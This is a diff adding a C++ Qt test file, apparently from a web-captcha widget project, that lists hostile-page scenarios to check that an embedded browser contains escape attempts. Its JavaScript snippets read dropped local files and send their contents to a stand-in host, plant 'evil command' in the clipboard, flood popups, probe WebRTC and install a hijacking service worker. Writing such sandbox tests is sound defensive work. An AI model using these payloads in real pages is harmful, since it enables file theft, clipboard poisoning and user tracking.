@@ -1,0 +1,152 @@
+// SPDX-FileCopyrightText: 2026 SmartCaptcha for Qt contributors
+// SPDX-License-Identifier: MIT
+
+#include "attack.h"
+
+#include <QtCore/qdir.h>
+#include <QtCore/qmimedata.h>
+#include <QtCore/qurl.h>
+#include <QtTest/qtest.h>
+
+namespace {
+
+// What stands in the page under the mouse when Scene::press() is called with it.
+constexpr QPoint onTarget(150, 60);
+
+QByteArray target(const QByteArray &element)
+{
+    return "<div style='position: fixed; top: 0; left: 0'>" + element + "</div>";
+}
+
+const QByteArray wide = " style='display: block; width: 300px; height: 100px; font-size: 60px' ";
+
+void pressTarget(Scene &scene, HostileSite &)
+{
+    scene.press(onTarget);
+}
+
+} // namespace
+
+// A page that wants out of its place: windows, addresses, files, the clipboard.
+QList<Attack> attacksToEscape()
+{
+    QList<Attack> attacks;
+    attacks << Attack{.name = "one press opens many links",
+                      .script =
+                          "for (const kind of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])"
+                          "addEventListener(kind, () => { for (let i = 0; i < 5; ++i)"
+                          "open('https://example.com/' + kind + i); }); begun = done;",
+                      .act = pressTarget,
+                      .dones = 2,
+                      .watch = 800,
+                      .tokens = 0,
+                      .links = {QStringLiteral("https://example.com/")}};
+    attacks << Attack{.name = "color input",
+                      .script = "begun = done;",
+                      .markup = target("<input type=color" + wide + ">"),
+                      .act = pressTarget,
+                      .dones = 2,
+                      .watch = 800};
+    attacks << Attack{.name = "file input",
+                      .script = "begun = done;",
+                      .markup = target("<input type=file" + wide + ">"),
+                      .act = pressTarget,
+                      .dones = 2,
+                      .watch = 800};
+    attacks << Attack{
+        .name = "clipboard after a press",
+        .script = "onclick = () => { const field = document.querySelector('textarea'); field.select();"
+                  "document.execCommand('copy'); document.execCommand('cut');"
+                  "try { navigator.clipboard.writeText('evil command'); } catch (problem) {} };"
+                  "document.oncopy = event => { event.clipboardData.setData('text/plain', 'evil command');"
+                  "event.preventDefault(); }; begun = done;",
+        .markup = target("<textarea" + wide + ">evil command</textarea>"),
+        .act = pressTarget,
+        .dones = 2,
+        .watch = 500};
+    attacks << Attack{.name = "dropped file",
+                      .script =
+                          "ondragover = event => event.preventDefault(); ondrop = event => {"
+                          "event.preventDefault(); for (const file of event.dataTransfer.files)"
+                          "file.text().then(text => fetch('ELSEWHERE/dropped?' + text, {mode: 'no-cors'}));"
+                          "fetch('ELSEWHERE/dropped?' + event.dataTransfer.types, {mode: 'no-cors'}); };"
+                          "begun = done;",
+                      .act =
+                          [](Scene &scene, HostileSite &) {
+                              QMimeData data;
+                              data.setUrls({QUrl::fromLocalFile(QStringLiteral("/etc/hostname"))});
+                              scene.drop(data, onTarget);
+                          },
+                      .watch = 500};
+    attacks << Attack{.name = "WebRTC",
+                      .script =
+                          "begun = () => { try { const connection = new RTCPeerConnection({iceServers: ["
+                          "{urls: 'stun:UDP'}]}); connection.createDataChannel('x');"
+                          "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
+                          "} finally { done(); } };",
+                      .watch = 1200};
+    attacks << Attack{.name = "WebRTC of an empty frame",
+                      .script =
+                          "begun = () => { try { const frame = document.body.appendChild("
+                          "document.createElement('iframe')); const connection ="
+                          "new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:UDP'}]});"
+                          "connection.createDataChannel('x');"
+                          "connection.createOffer().then(offer => connection.setLocalDescription(offer));"
+                          "} finally { done(); } };",
+                      .watch = 1200};
+    attacks << Attack{.name = "scripts of the program's resources",
+                      .script = "begun = () => { const script = document.createElement('script');"
+                                "script.src = 'qrc:/qtwebchannel/qwebchannel.js';"
+                                "script.onload = () => { if (window.QWebChannel)"
+                                "fetch('ELSEWHERE/resource', {mode: 'no-cors'}); };"
+                                "document.head.append(script); done(); };",
+                      .watch = 600};
+    attacks << Attack{.name = "alert, confirm, prompt",
+                      .script =
+                          "begun = () => { alert('a'); confirm('b'); prompt('c', 'd'); print(); done(); };",
+                      .watch = 600};
+    attacks << Attack{.name = "beforeunload",
+                      .script =
+                          "onbeforeunload = event => { event.preventDefault(); event.returnValue = 'stay'; };"
+                          "begun = done;",
+                      .act =
+                          [](Scene &scene, HostileSite &) {
+                              scene.press(onTarget);
+                              scene.reload();
+                          },
+                      .watch = 2500,
+                      .loads = 2,
+                      .staysReady = true};
+    attacks << Attack{.name = "context menu",
+                      .script = "begun = done;",
+                      .markup = target("<textarea" + wide + ">text</textarea>"),
+                      .act =
+                          [](Scene &scene, HostileSite &) {
+                              QTest::mouseClick(scene.window(), Qt::RightButton, {},
+                                                scene.inWindow(onTarget));
+                          },
+                      .watch = 600};
+    attacks << Attack{.name = "user name and password",
+                      .script = "begun = () => { fetch('/locked').finally(done); };",
+                      .watch = 600};
+    attacks << Attack{.name = "redirect elsewhere",
+                      .script = "location.href = 'ELSEWHERE/page'; begun = done;",
+                      .watch = 800};
+    attacks << Attack{.name = "service worker of one load answers the next",
+                      .script = "navigator.serviceWorker.register('/worker.js').then(() =>"
+                                "navigator.serviceWorker.ready).then(() => { console.log('registered'); "
+                                "done(); }, e => { console.log('no: ' + e); done(); });",
+                      .prepare =
+                          [](HostileSite &site) {
+                              site.add("/worker.js", "text/javascript",
+                                       "oninstall = () => skipWaiting(); onactivate = () => clients.claim();"
+                                       "onfetch = event => event.respondWith(new Response('<html><script>"
+                                       "fetch(\"ELSEWHERE/worker\", {mode: \"no-cors\"})</script></html>',"
+                                       "{headers: {'Content-Type': 'text/html'}}));");
+                          },
+                      .act = [](Scene &scene, HostileSite &) { scene.reload(); },
+                      .dones = 2,
+                      .watch = 500,
+                      .loads = 2};
+    return attacks;
+}
